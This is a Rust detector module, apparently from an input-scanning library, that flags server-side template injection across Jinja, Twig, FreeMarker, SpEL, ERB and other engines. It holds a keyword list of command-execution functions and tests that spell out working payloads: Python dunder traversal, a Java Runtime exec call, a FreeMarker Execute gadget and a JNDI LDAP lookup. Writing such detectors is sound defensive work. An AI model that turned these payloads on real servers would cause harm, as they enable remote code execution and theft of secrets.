//! Server-side template injection: expression delimiters of the common
//! engines (`{{ }}`, `{% %}`, `${ }`, `#{ }`, `*{ }`, `@( )`, `<% %>`) whose
//! content is a probe (`7*7`) or reaches for objects a template should not
//! (`__class__`, `config`, `Runtime`), plus engine directives (`<#assign`,
//! `#set(`, `{php}`).
//!
//! Linear: for each delimiter kind only the most recent opening is kept, so
//! the contents analysed are disjoint.

use super::views::{is_word_char, View};
use super::{Category, Hits};

const TPL: Category = Category::Template;

#[derive(Clone, Copy, PartialEq, Eq)]
enum Pair {
    Curly2,
    Stmt,
    Dollar,
    Hash,
    Star,
    Razor,
    Erb,
}

/// (opening, closing, kind); longer openings first.
const PAIRS: [(&str, &str, Pair); 7] = [
    ("{{", "}}", Pair::Curly2),
    ("{%", "%}", Pair::Stmt),
    ("${", "}", Pair::Dollar),
    ("#{", "}", Pair::Hash),
    ("*{", "}", Pair::Star),
    ("@(", ")", Pair::Razor),
    ("<%", "%>", Pair::Erb),
];

/// Longest content analysed; longer "pairs" are unrelated braces.
const MAX_CONTENT: usize = 2000;

const DANGEROUS: [&str; 40] = [
    "getruntime",
    // Twig's dump() prints every variable in scope; Java EL/OGNL reach the
    // class loader (`${class.getClassLoader()}`) and from it any class.
    "dump",
    "getclassloader",
    "getprotectiondomain",
    "runtime",
    "processbuilder",
    "forname",
    "getclass",
    "classloader",
    "popen",
    "subprocess",
    "exec",
    "system",
    "eval",
    "constructor",
    "require",
    "import",
    "mainmodule",
    "child_process",
    "freemarker",
    "execute",
    "lipsum",
    "cycler",
    "joiner",
    "get_flashed_messages",
    "globals",
    "builtins",
    "subclasses",
    "mro",
    "attr",
    "getattr",
    "os",
    "spawn",
    "execsync",
    "readfile",
    "getenv",
    "reflect",
    "invoke",
    "shell_exec",
    "passthru",
];

const CONTEXT_OBJECTS: [&str; 8] = [
    "config",
    "self",
    "_self",
    "settings",
    "application",
    "request",
    "session",
    "namespace",
];

fn words(v: &View, a: usize, b: usize) -> impl Iterator<Item = (usize, usize)> + '_ {
    let mut i = a;
    std::iter::from_fn(move || {
        while i < b && !is_word_char(v.at(i)) {
            i += 1;
        }
        if i >= b {
            return None;
        }
        let s = i;
        while i < b && is_word_char(v.at(i)) {
            i += 1;
        }
        Some((s, i))
    })
}

fn word_in(v: &View, (s, e): (usize, usize), list: &[&str]) -> bool {
    list.iter().any(|w| w.len() == e - s && v.is_at(s, w))
}

/// Only numbers, quotes, parentheses, spaces and at least one arithmetic
/// operator between two numbers: `7*7`, `7*'7'`, `(1337*1337)`.
fn arithmetic(v: &View, a: usize, b: usize) -> bool {
    let mut digits_seen = false;
    let mut op_after_digit = false;
    let mut probe = false;
    for k in a..b {
        let c = v.at(k);
        if c.is_ascii_digit() {
            if op_after_digit {
                probe = true;
            }
            digits_seen = true;
        } else if "*+-/%".contains(c) {
            if digits_seen {
                op_after_digit = true;
            }
        } else if !" '\"()=".contains(c) {
            return false;
        }
    }
    probe
}

fn analyze(v: &View, a: usize, b: usize, pair: Pair) -> Option<(&'static str, u8)> {
    let mut a = a;
    let mut b = b;
    while a < b && v.at(a).is_whitespace() {
        a += 1;
    }
    while b > a && v.at(b - 1).is_whitespace() {
        b -= 1;
    }
    if a == b {
        return None;
    }
    if pair == Pair::Erb && v.at(a) == '=' {
        a += 1;
    }
    if pair == Pair::Dollar {
        if v.is_at(a, "jndi:") || v.is_at(a, "${jndi") {
            return Some(("template.jndi-lookup", 97));
        }
        if [
            "lower:", "upper:", "::-", "env:", "sys:", "java:", "date:", "base64:", "main:", "ctx:",
        ]
        .iter()
        .any(|p| v.is_at(a, p))
        {
            return Some(("template.jndi-lookup", 85));
        }
        if v.is_at(a, "ifs") && b - a == 3 {
            return None; // `${IFS}` is the command detector's.
        }
    }
    // Dunder attributes walk from any object to `os`: `''.__class__.__mro__`.
    let dunder = (a..b.saturating_sub(2))
        .any(|k| v.at(k) == '_' && v.at(k + 1) == '_' && v.at(k + 2).is_ascii_alphabetic());
    if dunder {
        return Some(("template.object-traversal", 95));
    }
    let ws: Vec<(usize, usize)> = words(v, a, b).take(64).collect();
    if ws.iter().any(|&w| word_in(v, w, &DANGEROUS))
        || (v.low[a..b].contains(&'`') && pair == Pair::Erb)
    {
        return Some(("template.dangerous-call", 92));
    }
    // SpEL / Thymeleaf type references: `T(java.lang.Runtime)`.
    if v.at(a) == 't' && v.at(v.skip_spaces(a + 1)) == '(' {
        return Some(("template.dangerous-call", 90));
    }
    if arithmetic(v, a, b) {
        let conf = match pair {
            Pair::Curly2 | Pair::Erb | Pair::Dollar => 92,
            Pair::Hash | Pair::Star => 88,
            Pair::Razor => 80,
            Pair::Stmt => 60,
        };
        return Some(("template.arithmetic-probe", conf));
    }
    // Handlebars block parameters on a string literal (`{{#with "s" as
    // |string|}}`): the opening of the known prototype-walking RCE chain.
    if pair == Pair::Curly2
        && v.at(a) == '#'
        && v.is_at(a + 1, "with")
        && "'\"".contains(v.at(v.skip_spaces(a + 5)))
        && (a..b.saturating_sub(3)).any(|k| v.is_at(k, "as |"))
    {
        return Some(("template.directive", 75));
    }
    if let Some(&first) = ws.first() {
        // Twig's `app` global: `app.request.server.all` is the whole
        // `$_SERVER` (environment, secrets), `app.session` the session.
        if word_in(v, first, &["app"])
            && ws.len() >= 3
            && word_in(v, ws[1], &["request", "session"])
            && ws[2..]
                .iter()
                .any(|&w| word_in(v, w, &["server", "headers", "cookies", "all", "env"]))
        {
            return Some(("template.context-object", 85));
        }
        if word_in(v, first, &CONTEXT_OBJECTS) && pair != Pair::Razor {
            // `{{config}}`, `{{self}}`, `{{config.items()}}` probe; a template
            // that uses `request.user.name` is ordinary code.
            let alone = ws.len() == 1
                || (ws.len() == 2
                    && word_in(
                        v,
                        ws[1],
                        &["items", "environ", "dict", "application", "env"],
                    ));
            let conf = if alone { 85 } else { 45 };
            return Some(("template.context-object", conf));
        }
        if pair == Pair::Stmt {
            let conf = if word_in(v, first, &["debug"]) {
                80
            } else if word_in(v, first, &["import", "load", "include", "extends"]) {
                60
            } else {
                30
            };
            return Some(("template.directive", conf));
        }
    }
    let conf = match pair {
        Pair::Erb => {
            if v.low[a..b].contains(&'(') {
                60
            } else {
                45
            }
        }
        Pair::Curly2 => 30,
        _ => 20,
    };
    Some(("template.expression", conf))
}

/// The template-engine polyglot probe (`${{<%[%'"}}%\.`): openers of three
/// or more engines within 12 chars, written to make whichever engine parses
/// the value fail loudly.
fn polyglot(v: &View, hits: &mut Hits) {
    const OPENERS: [&str; 6] = ["${", "{{", "<%", "[%", "#{", "{%"];
    let n = v.len();
    let mut i = 0;
    while i + 1 < n {
        if "${<[#".contains(v.at(i)) {
            let end = (i + 12).min(n);
            let kinds = OPENERS
                .iter()
                .filter(|o| (i..end).any(|k| v.is_at(k, o)))
                .count();
            if kinds >= 3 {
                hits.add(TPL, "template.polyglot", 85, i, end);
                return;
            }
        }
        i += 1;
    }
}

pub(crate) fn scan(v: &View, hits: &mut Hits) {
    polyglot(v, hits);
    let n = v.len();
    let mut open: [Option<usize>; 7] = [None; 7];
    let mut i = 0;
    while i < n {
        let c = v.at(i);
        if !"{}%$#*@(<)?".contains(c) {
            i += 1;
            continue;
        }
        // Closings first: `}}` closes `{{`; a lone `}` closes `${`, `#{`, `*{`.
        let mut step = 1;
        for (slot, &(op, close, pair)) in PAIRS.iter().enumerate() {
            let Some(o) = open[slot] else { continue };
            if i >= o + op.len() && v.is_at(i, close) {
                if i - o <= MAX_CONTENT {
                    if let Some((rule, conf)) = analyze(v, o + op.len(), i, pair) {
                        hits.add(TPL, rule, conf, o, i + close.len());
                    }
                }
                open[slot] = None;
                step = close.len();
                break;
            }
        }
        if step > 1 {
            i += step;
            continue;
        }
        for (slot, &(op, _, _)) in PAIRS.iter().enumerate() {
            if v.is_at(i, op) {
                open[slot] = Some(i);
            }
        }
        // Engine directives outside the pairs.
        if c == '<' && v.is_at(i, "<#assign") {
            hits.add(TPL, "template.directive", 80, i, i + 8);
        } else if c == '?' && v.is_at(i, "?new(") {
            hits.add(TPL, "template.dangerous-call", 92, i, i + 5);
        } else if c == '#' && v.is_at(i, "#set") && v.at(v.skip_spaces(i + 4)) == '(' {
            let k = v.skip_spaces(i + 4);
            let conf = if v.at(v.skip_spaces(k + 1)) == '$' {
                75
            } else {
                40
            };
            hits.add(TPL, "template.directive", conf, i, k + 1);
        } else if c == '{'
            && (v.is_at(i, "{php}")
                || v.is_at(i, "{system(")
                || v.is_at(i, "{$smarty.")
                || v.is_at(i, "{self::"))
        {
            hits.add(TPL, "template.directive", 85, i, i + 5);
        }
        i += 1;
    }
}

#[cfg(test)]
mod tests {
    use crate::detect::test_rules as rules;

    #[test]
    fn each_rule() {
        assert!(rules("{{7*7}}").contains(&"template.arithmetic-probe"));
        assert!(rules("${7*7}").contains(&"template.arithmetic-probe"));
        assert!(rules("<%= 7*7 %>").contains(&"template.arithmetic-probe"));
        assert!(rules("{{''.__class__.__mro__[1]}}").contains(&"template.object-traversal"));
        assert!(rules("{{config}}").contains(&"template.context-object"));
        assert!(rules("${{<%[%'\"}}%\\.").contains(&"template.polyglot"));
        assert!(
            rules("{{#with \"s\" as |string|}}{{#with \"e\"}}{{/with}}{{/with}}")
                .contains(&"template.directive")
        );
        assert!(rules("{{app.request.server.all|join(',')}}").contains(&"template.context-object"));
        assert!(rules("{{dump(app)}}").contains(&"template.dangerous-call"));
        assert!(rules("${class.getClassLoader()}").contains(&"template.dangerous-call"));
        assert!(rules("${T(java.lang.Runtime).getRuntime().exec('id')}")
            .contains(&"template.dangerous-call"));
        assert!(rules("{% debug %}").contains(&"template.directive"));
        assert!(rules("${jndi:ldap://x.example/a}").contains(&"template.jndi-lookup"));
        assert!(
            rules("<#assign ex=\"freemarker.template.utility.Execute\"?new()>")
                .contains(&"template.directive")
        );
        assert!(rules("#{7*7}").contains(&"template.arithmetic-probe"));
        assert!(rules("@(7*7)").contains(&"template.arithmetic-probe"));
    }

    #[test]
    fn benign() {
        for s in [
            "Hello {{ user.name }}",
            "Total: ${price}",
            "{% if user %}hi{% endif %}",
            "email me @(home)",
            "costs $5 {or less}",
            "Hi {{ app.user.username }}",
            "{{#with person as |p|}}{{p.name}}{{/with}}",
            "cost ${5} or {{n}} items",
        ] {
            assert!(rules(s).is_empty(), "{s}: {:?}", rules(s));
        }
    }
}
